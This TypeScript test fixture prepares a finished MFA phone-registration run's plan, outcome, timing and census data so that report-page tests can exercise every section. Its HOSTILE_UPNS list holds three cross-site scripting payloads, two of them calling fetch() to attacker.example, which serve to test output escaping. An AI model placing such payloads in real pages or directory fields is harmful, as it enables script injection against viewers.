/**
 * A finished run's store data without running the run: plan pages, chunk files, outcome files
 * with their timings, and the guards' census findings, as the run's activities write them. The
 * summary and the report page are then built by the real summarizeRun over them, so report
 * tests see every section filled (failures, shared and changed numbers, a timeline) from a tenant
 * whose every number is known here.
 */
// The default export: a script run by Node itself (not vitest) sees no named exports of this CommonJS package.
import azureFunctions from "@azure/functions";
import { summarizeRun, type SummarizeRunInput } from "../../activities/summarizeRun.js";
import { censusKeys, type SettledShard, type SharedValue } from "../../shared/guards/census.js";
import { SHARDS } from "../../shared/guards/valueHash.js";
import { maskPhoneNumber } from "../../shared/phone/mask.js";
import {
  runKeys,
  type ChunkItem,
  type ChunkOutcomeFile,
  type DecisionLabel,
  type Outcome,
  type PlanEntry,
} from "../../shared/run/index.js";
import { loadSettings } from "../../shared/settings/index.js";
import { setServices, type Services } from "../../shared/services.js";
import type { RunStore } from "../../shared/store/runStore.js";
import { testRunSettings } from "./runFixtures.js";

/** What happens to one prepared user: the plan's decision and, for writes, the outcome. */
export interface PreparedUser {
  userId: string;
  userPrincipalName: string;
  phoneNumber?: string;
  decision: DecisionLabel;
  outcome?: Outcome;
}

/** The users' stories, in the order they repeat. */
const STORIES: ((id: string) => Pick<PreparedUser, "decision" | "outcome">)[] = [
  (id) => ({ decision: "create", outcome: { userId: id, result: "created" } }),
  (id) => ({ decision: "create", outcome: { userId: id, result: "created" } }),
  () => ({ decision: "skip:guest" }),
  (id) => ({ decision: "create", outcome: { userId: id, result: "created" } }),
  () => ({ decision: "skip:alreadyMfaRegistered" }),
  (id) => ({
    decision: "create",
    outcome: {
      userId: id,
      result: "failed",
      status: 403,
      code: "Authorization_RequestDenied",
      transient: false,
    },
  }),
  () => ({ decision: "alreadyPresent" }),
  (id) => ({ decision: "replace", outcome: { userId: id, result: "replaced" } }),
  () => ({ decision: "skip:noNumber" }),
  (id) => ({
    decision: "create",
    outcome: {
      userId: id,
      result: "failed",
      status: 429,
      code: "TooManyRequests",
      transient: true,
    },
  }),
  () => ({ decision: "skip:admin" }),
  (id) => ({ decision: "create", outcome: { userId: id, result: "alreadyPresent" } }),
  () => ({ decision: "skip:invalidNumber" }),
  (id) => ({
    decision: "create",
    outcome: { userId: id, result: "changedSincePlan", why: "number" },
  }),
  () => ({ decision: "skip:numberNotSettled" }),
  () => ({ decision: "skip:sharedNumber" }),
];

/** UPNs a directory administrator could set to attack the page that shows them. */
export const HOSTILE_UPNS = [
  `<img src="https://attacker.example/x.png" onerror="fetch('https://attacker.example/')">@contoso.example`,
  `"><script>fetch('https://attacker.example/s')</script>@contoso.example`,
  `x'onmouseover='alert(1)@contoso.example`,
];

/** A shared number (every `skip:sharedNumber` user holds it). */
const SHARED_NUMBER = "+45 70101010";

/**
 * The users of a prepared run: the stories in turn, the first users with hostile UPNs.
 *
 * @param n - how many users.
 */
export function preparedUsers(n: number): PreparedUser[] {
  return Array.from({ length: n }, (_, i): PreparedUser => {
    const userId = `00000000-0000-4000-8000-${String(i).padStart(12, "0")}`;
    const story = (STORIES[i % STORIES.length] as (typeof STORIES)[number])(userId);
    const phoneNumber =
      story.decision === "skip:noNumber"
        ? undefined
        : story.decision === "skip:sharedNumber"
          ? SHARED_NUMBER
          : `+45 ${String(20_000_000 + i)}`;
    return {
      userId,
      userPrincipalName: HOSTILE_UPNS[i] ?? `user${String(i).padStart(5, "0")}@contoso.example`,
      ...(phoneNumber ? { phoneNumber } : {}),
      ...story,
    };
  });
}

/** Options of {@link writePreparedRun}. */
export interface PreparedRunOptions {
  runId: string;
  users: PreparedUser[];
  chunkSize: number;
  usersPerPage: number;
  /** When the first chunk started writing; each chunk takes `chunkMs`, two at a time. */
  startedAt: Date;
  chunkMs: number;
}

/**
 * Writes a finished run's plan, chunks, outcomes and census findings to a store.
 *
 * @param store - the run store.
 * @param o - see {@link PreparedRunOptions}.
 * @returns the user pages and chunks written.
 */
export async function writePreparedRun(
  store: RunStore,
  o: PreparedRunOptions,
): Promise<{ userPages: number; chunks: number }> {
  const writes = o.users.filter((u) => u.outcome);
  const chunkOf = new Map(writes.map((u, i) => [u.userId, Math.floor(i / o.chunkSize)]));
  const chunks = Math.ceil(writes.length / o.chunkSize);
  const userPages = Math.ceil(o.users.length / o.usersPerPage);
  for (let page = 0; page < userPages; page++) {
    const entries = o.users
      .slice(page * o.usersPerPage, (page + 1) * o.usersPerPage)
      .map((u): PlanEntry => ({
        userId: u.userId,
        userPrincipalName: u.userPrincipalName,
        decision: u.decision,
        ...(u.phoneNumber ? { phoneNumber: maskPhoneNumber(u.phoneNumber) } : {}),
        ...(chunkOf.has(u.userId) ? { chunkNo: chunkOf.get(u.userId) } : {}),
      }));
    await store.putJson(runKeys.plan(o.runId, page), entries);
  }
  for (let c = 0; c < chunks; c++) {
    const members = writes.slice(c * o.chunkSize, (c + 1) * o.chunkSize);
    const items = members.map((u): ChunkItem => ({
      userId: u.userId,
      userPrincipalName: u.userPrincipalName,
      phoneNumber: u.phoneNumber ?? "",
      action: u.decision === "replace" ? "replace" : "create",
    }));
    await store.putJson(runKeys.chunk(o.runId, c), items);
    // Two chunks write at once, each for chunkMs.
    const start = o.startedAt.getTime() + Math.floor(c / 2) * o.chunkMs;
    const outcomes = members.map((u) => u.outcome as Outcome);
    const file: ChunkOutcomeFile = {
      chunkNo: c,
      complete: true,
      outcomes,
      timing: {
        startedAt: new Date(start).toISOString(),
        endedAt: new Date(start + o.chunkMs).toISOString(),
        users: outcomes.length,
        wrote: outcomes.filter((x) => x.result === "created" || x.result === "replaced").length,
        throttled: c % 3,
        window: 8 + c,
      },
    };
    await store.putJson(runKeys.outcome(o.runId, c), file);
  }
  await writeCensus(store, o);
  return { userPages, chunks };
}

/** The guards' findings: the shared number's holders, and who changed the unsettled numbers. */
async function writeCensus(store: RunStore, o: PreparedRunOptions): Promise<void> {
  const sharing = o.users.filter((u) => u.decision === "skip:sharedNumber").map((u) => u.userId);
  const unsettled = o.users.filter((u) => u.decision === "skip:numberNotSettled");
  for (let shard = 0; shard < SHARDS; shard++) {
    const settled: SettledShard =
      shard === 0
        ? {
            unsettled: unsettled.map((u) => ({
              userId: u.userId,
              since: o.startedAt.toISOString(),
              until: new Date(o.startedAt.getTime() + 3 * 86_400_000).toISOString(),
              why: "auditChange",
              by: "helpdesk@contoso.example",
            })),
            changes: unsettled.map((u) => ({
              userId: u.userId,
              at: o.startedAt.toISOString(),
              why: "auditChange",
              by: "helpdesk@contoso.example",
            })),
          }
        : { unsettled: [], changes: [] };
    const shared: SharedValue[] =
      shard === 0 && sharing.length > 0 ? [{ h: "shared-hash", userIds: sharing }] : [];
    await store.putJson(censusKeys.settled(o.runId, shard), settled);
    await store.putJson(censusKeys.shared(o.runId, shard), shared);
  }
}

/**
 * Runs the real summarizeRun over a prepared run in a store (services point at the store).
 *
 * @param store - the run store holding the prepared run.
 * @param input - what the orchestration would hand the summary, over sensible defaults.
 */
export async function summarizePrepared(
  store: RunStore,
  input: Partial<SummarizeRunInput> & { runId: string; userPages: number; chunks: number },
): Promise<Awaited<ReturnType<typeof summarizeRun>>> {
  setServices({ settings: loadSettings({}), store } as unknown as Services);
  const settings = testRunSettings({ dryRun: false, excludeGroups: ["Break Glass"] });
  return summarizeRun(
    {
      dryRun: false,
      withoutMfa: 0,
      logPhoneNumbers: settings.logPhoneNumbers,
      numberSettleDays: settings.numberSettleDays,
      settings,
      trigger: "http",
      startedBy: { name: "ops@contoso.example", objectId: "aaaaaaaa-0000-4000-8000-000000000001" },
      startedAt: "2026-12-01T02:00:00.000Z",
      finishedAt: "2026-12-01T02:20:00.000Z",
      ...input,
    },
    new azureFunctions.InvocationContext({
      functionName: "summarizeRun",
      logHandler: () => undefined,
    }),
  );
}
